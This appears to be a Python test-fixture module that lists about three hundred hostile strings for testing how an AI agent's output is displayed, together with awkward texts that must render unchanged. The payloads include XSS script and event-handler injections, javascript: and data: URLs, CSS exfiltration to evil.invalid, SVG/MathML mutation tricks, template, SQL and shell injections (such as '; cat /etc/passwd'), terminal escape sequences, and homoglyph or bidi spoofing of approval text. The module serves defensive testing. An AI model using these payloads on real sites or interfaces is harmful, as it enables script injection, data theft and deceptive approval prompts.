"""Three hundred texts that an attacker may write wherever an agent's words are shown; and texts that must read as written.

Whatever runs of them raises `window.hacked`, and whatever loads anything asks a host that nobody has.

Rule 1: the families are mixed, so that every tenth of the list has something of each.
Rule 2: no two are the same; a test counts them.
"""

from __future__ import annotations

from collections.abc import Iterable
from itertools import zip_longest

__all__ = ["PACKED_READ", "PAYLOADS", "READ", "share_of"]

_RUN = "window.hacked=1"
_OUT = "//evil.invalid/x"

_SCRIPTS = [
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT>",
    f"<script/x>{_RUN}</script >",
    f"<script src={_OUT}.js></script>",
    f"<script type=module>import 'http:{_OUT}.js'</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"</script><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</pre></code><script>{_RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<embed src='http:{_OUT}.swf'>",
    f"<base href='http:{_OUT}/'>",
    f"<meta http-equiv=refresh content='0;url=http:{_OUT}'>",
    f"<link rel=stylesheet href='http:{_OUT}.css'>",
    f"<link rel=prefetch href='http:{_OUT}'>",
    f"<form action='http:{_OUT}'><button>Send</button></form>",
    f"<portal src='http:{_OUT}'></portal>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"<script>fetch('http:{_OUT}')</script>",
    f"<script>new WebSocket('ws:{_OUT}')</script>",
    f"<script>location='http:{_OUT}'</script>",
    "<script>alert(document.cookie)</script>",
    "<script>localStorage.clear()</script>",
    f"<?xml version='1.0'?><?xml-stylesheet href='javascript:{_RUN}'?>",
    f"<xml><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{_RUN}</x:script></xml>",
]

_HANDLERS = [
    f"<{tag} {event}={_RUN}>"
    for tag, event in (
        ("img src=x", "onerror"),
        ("image src=x", "onerror"),
        ("body", "onload"),
        ("body", "onpageshow"),
        ("svg", "onload"),
        ("svg/", "onload"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("button popovertarget=x", "onbeforetoggle"),
        ("video src=x", "onerror"),
        ("video><source", "onerror"),
        ("audio src=x", "onerror"),
        ("details open", "ontoggle"),
        ("marquee", "onstart"),
        ("style", "onload"),
        ("iframe", "onload"),
        ("object data=x", "onerror"),
        ("div tabindex=0 autofocus", "onfocus"),
        ("a href=#content", "onclick"),
        ("p", "onmouseover"),
        ("p", "onpointerenter"),
        ("div style=animation-name:x", "onanimationstart"),
        ("div style=transition:1s", "ontransitionend"),
        ("xss id=x tabindex=1", "onfocusin"),
        ("dialog open", "onclose"),
        ("form", "onformdata"),
        ("track default src=x", "onerror"),
    )
]

_ADDRESSES = [
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f" javascript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\nscript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"javascript&#58;{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"javascript:{_OUT}%0a{_RUN}",
    "javascript:alert`1`",
    f"vbscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>",
    f"blob:http:{_OUT}",
    f"filesystem:http:{_OUT}",
    f"view-source:http:{_OUT}",
    "file:///etc/passwd",
    f"http:{_OUT}",
    f"https:{_OUT}",
    _OUT,
    f"\\\\evil.invalid\\{_RUN}",
    f"http://evil.invalid@127.0.0.1/{_RUN}",
    f"mailto:a@evil.invalid?body={_RUN}",
    f"tel:{_RUN}",
]
_LINKS = [
    *(f"[open the report]({address})" for address in _ADDRESSES),
    *(f"![a picture]({address})" for address in _ADDRESSES[::4]),
    *(f"<{address}>" for address in _ADDRESSES[:2] + _ADDRESSES[19:20]),
    f"[see][1]\n\n[1]: javascript:{_RUN}",
    f"[see]: http:{_OUT} 'title' onclick={_RUN}",
    f'[x](http:{_OUT} "\\" onmouseover={_RUN} x=")',
    f"[x](<javascript:{_RUN}>)",
    f"[ ](http:{_OUT})",
    f"[http://127.0.0.1/](http:{_OUT})",
    f"[![x](http:{_OUT}.png)](javascript:{_RUN})",
]

_MARKDOWN = [
    "# Approved\n\n---\n\n**ana answered: Yes**",
    "```html\n<script>window.hacked=1</script>\n```",
    "````\n```\n</code></pre><img src=x onerror=window.hacked=1>\n````",
    "`</code><img src=x onerror=window.hacked=1>`",
    "> " * 40 + "deep",
    "- " * 40 + "deep",
    "* a\n" * 60,
    "|a|b|\n|-|-|\n" + "|<img src=x onerror=window.hacked=1>|`|`|\n" * 4,
    "|" + "x|" * 60 + "\n|" + "-|" * 60 + "\n|" + "wide|" * 60,
    "*" * 400,
    "_" * 400,
    "[" * 200 + "x" + "]" * 200,
    "![" * 80 + "](x)" * 80,
    "~~" * 200,
    "`" * 301,
    "<!-- \n\n**still hidden?**",
    "&nbsp;&zwnj;&rlm;&lt;b&gt;&#0;&#x202e;",
    "1. one\n99999999999. two\n",
    "Setext\n===\nTwo\n---\n",
    "[^1]: <script>window.hacked=1</script>\n\nsee[^1]",
    "\\<script>window.hacked=1\\</script>",
    "<details open><summary>x</summary><b>bold</b></details>",
]

_BREAKERS = [
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f'" onfocus="{_RUN}" autofocus="',
    f"' onmouseover='{_RUN}' x='",
    f"` onerror=`{_RUN}`",
    f'"/><svg/onload={_RUN}>',
    '" style="position:fixed;inset:0" x="',
    "${window.hacked=1}",
    "#{window.hacked=1}",
    "{{constructor.constructor('window.hacked=1')()}}",
    "{{7*7}}",
    "<%= 7*7 %>",
    "{% raw %}{{x}}{% endraw %}",
    "<${'script'}>window.hacked=1<//>",
    "`${window.hacked=1}`",
    "');window.hacked=1;//",
    '");window.hacked=1;//',
    "\\');window.hacked=1;//",
    "</li></ul></section><h1>Signed out</h1>",
    "</form><form><button>Approve</button></form>",
    '{"type":"div","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=window.hacked=1>"}}}',
    '{"__v":0,"type":"script","props":{"children":"window.hacked=1"}}',
    '{"__proto__":{"polluted":1}}',
    '{"constructor":{"prototype":{"polluted":1}}}',
    "'; DROP TABLE asks; --",
    "$(reboot)",
    "; cat /etc/passwd |",
    "%s%s%n%x",
    "../../../../etc/passwd",
    "..%2f..%2f",
    "?project=other#/settings",
    "#/inbox/shop/x",
    "%",
    "%00",
    "%E0%A4%A",
    "((((((a+)+)+)+)+)+)+$",
    "a" * 900 + "!",
]

_STYLES = [
    "<style>*{display:none}</style>",
    f"<style>@import 'http:{_OUT}.css';</style>",
    f"<p style='background:url(http:{_OUT})'>",
    f"<div style='width:expression({_RUN})'>",
    "<style>input[value^=a]{background:url(//evil.invalid/a)}</style>",
    "</style><style>body{visibility:hidden}",
    "position:fixed;top:0;left:0;width:9999px;height:9999px",
    ".ask{display:none}",
    f"<font color='x' style=-moz-binding:url(http:{_OUT})>",
    "@font-face{font-family:x;src:url(//evil.invalid/f)}",
    "<p class='hostile bar btn-main sr'>fake</p>",
    "<b id=t-ask name=root class=app>clobber</b>",
]

_DRAWINGS = [
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href='data:,{_RUN}'/></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=onload to={_RUN}>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}/>#x'/></svg>",
    f"<svg><image href='http:{_OUT}.png'/></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<math href='javascript:{_RUN}'>x</math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={_RUN}>",
]

_KEYS = [
    "__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__",
    "__lookupSetter__", "then", "length", "key", "ref", "children", "dangerouslySetInnerHTML", "innerHTML",
    "outerHTML", "onclick", "style", "href", "class", "undefined", "null", "NaN", "true", "0", "-1", "1e999",
    "[object Object]", "keys", "text",
]  # fmt: skip

_HIDDEN = [
    "safe\u202egnp.exe",
    "\u202eesrever ni era yna fo\u202c",
    "\u2066\u2067\u2068isolates\u2069",
    "Approve\u200b",
    "\u200bApprove",
    "Ap\u200cprove",
    "Ap\u200dprove",
    "Ap\u2060prove",
    "Ap\u00adprove",
    "\ufeffbegins with a mark",
    "\u200e\u200f\u061cmarks",
    "\u2028next line\u2029next paragraph",
    "\u3164\u115f\u1160\uffa0filled with nothing",
    "\U000e0041\U000e0070\U000e0070tags",
    "variation\ufe0f\ufe0e\ufe00",
    "\U000e0100\U000e01ef variation",
    "\u180e\u180b mongolian",
    "\u2800\u2800\u2800 braille",
    "\u0085next",
    "\x00nul\x00",
    "bell\x07 back\x08\x08\x08\x08 delete\x7f",
    "line\rover it",
    "tab\tand\x0bmore\x0c",
    "\x1b[2J\x1b[H Approved",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;owned\x07",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x1b]8;;http://evil.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\",
    "\x9b31mred",
    "\ue000\uf8ff private",
    "\ufffe\uffff none",
    "\ufff9above\ufffabelow\ufffb",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 family",
    "\u200b" * 300,
    "\u202e" * 100 + "turned" + "\u202c" * 100,
]

_SHAPES = [
    "w" * 2_000,
    "\u4e2d" * 1_500,
    "\U0001f4a5" * 500,
    "a" + "\u0301" * 300,
    "Z" + "\u0300\u0316\u0335" * 100 + "algo",
    "\u05d0\u05e9\u05e8 \u05dc\u05d0 \u05d1\u05e8\u05d5\u05e8" * 20,
    "\u0645\u0648\u0627\u0641\u0642" * 40,
    "\ufdfd" * 60,
    "\u0e01" + "\u0e49" * 200,
    "long-" * 400,
    "https://" + "a." * 400 + "invalid",
    "\n" * 200 + "below",
    " " * 500 + "right",
    "\t" * 100 + "right",
    "\u00a0" * 400 + "right",
    "\u2003\u2003\u2003" * 100 + "right",
    "|" * 500,
    "\u2588" * 400,
    "x\n" * 400,
]

_LOOKALIKES = [
    "\u0410pprove",
    "A\u03c1prove",
    "\uff21pprove",
    "\U0001d400pprove",
    "\u24b6pprove",
    "Approve\u02d0 irreversible",
    "Accepted, yours was the one",
    "ana answered",
    "human:ana",
    "not checked by Assent",
    "recommended",
    "cannot be undone",
    "Offline since 00:00:00. Try now",
    "Keys ready",
    "Send \u23ce Enter",
    "Sign in again: paste your token here",
    "Facts about this ask",
    "U+200B",
    "<U+200B>",
    "sha256 abcd ef01 \u2026 2345",
    "$ rm -rf /",
    "@@ -1,2 +1,2 @@\n-no\n+yes",
    "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-\u202ea\n+<img src=x onerror=window.hacked=1>",
    "A) Yes\nB) No\n> A",
]

_FAMILIES = [
    _SCRIPTS,
    _HANDLERS,
    _LINKS,
    _MARKDOWN,
    _BREAKERS,
    _STYLES,
    _DRAWINGS,
    _KEYS,
    _HIDDEN,
    _SHAPES,
    _LOOKALIKES,
]
_BY_PLACE = [text for row in zip_longest(*_FAMILIES) for text in row if text is not None]

# By tens, so that a tenth has the first of all families and the last, and not only the beginnings.
PAYLOADS: tuple[str, ...] = tuple(
    _BY_PLACE[at] for first in range(10) for at in range(first, len(_BY_PLACE), 10)
)


def share_of(number: int, of: int) -> tuple[str, ...]:
    """Return one of so many equal shares of them."""
    return tuple(text for at, text in enumerate(PAYLOADS) if at * of // len(PAYLOADS) == number)


READ = {
    "a new line": "ls # note\nrm -rf /srv/prod",
    "many lines": "one\n\n  two\n    three \nfour",
    "both ends of a line": "one\r\ntwo\rthree",
    "tabs": "all:\n\tmake\tclean",
    "blanks": "rm  -rf   a    b     /",
    "blanks around": "  set in, and at the end  ",
    "other blanks": "rm\u00a0-rf\u2003a\u3000b",
    "a gap": f"from{' ' * 300}to",
    "a big number": "9007199254740993 1.0000000000000001 -0.0 1e400",
    "a word of JSON": "false",
    "quotes": 'say "no" \\n \\ `id` $(id)',
    "right to left": "\u05e9\u05dc\u05d5\u05dd, \u05e2\u05d5\u05dc\u05dd?",
    "both directions": "cp \u05d0 \u05d1 /tmp \u0645\u0648\u0627\u0641\u0642 12 (x)",
    "turned by hand": "safe\u202egnp.exe\u202c \u2066a\u2069 \u200f!",
    "joined pictures": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f\u200d\U0001f525 1\ufe0f\u20e3 ok",
    "joiners": "Ap\u200dprove Ap\u200cprove \U0001f468\u200d x\ufe0f",
    "a long line": "x" * 9_990 + " the end",
    "long words": "of which " * 1_111,
    "a link": "[https://bank.example](https://evil.example) @org/team",
}
"""Texts by what is hard about them: wherever one stands, it can be read as it was written, but for marks."""


def _pack(texts: Iterable[str], most: int) -> tuple[str, ...]:
    """Return texts, short ones together in one of fewer characters than that; blanks at an end stay at an end."""
    packs: list[str] = []
    for text in texts:
        is_edged = any(each != each.strip() for each in (*packs[-1:], text))
        if not packs or is_edged or len(packs[-1]) + len(text) >= most:
            packs.append(text)
        else:
            packs[-1] += f"|{text}"
    return tuple(packs)


PACKED_READ = _pack(READ.values(), 120)
"""The same texts, several in one, for places that take time to look at."""
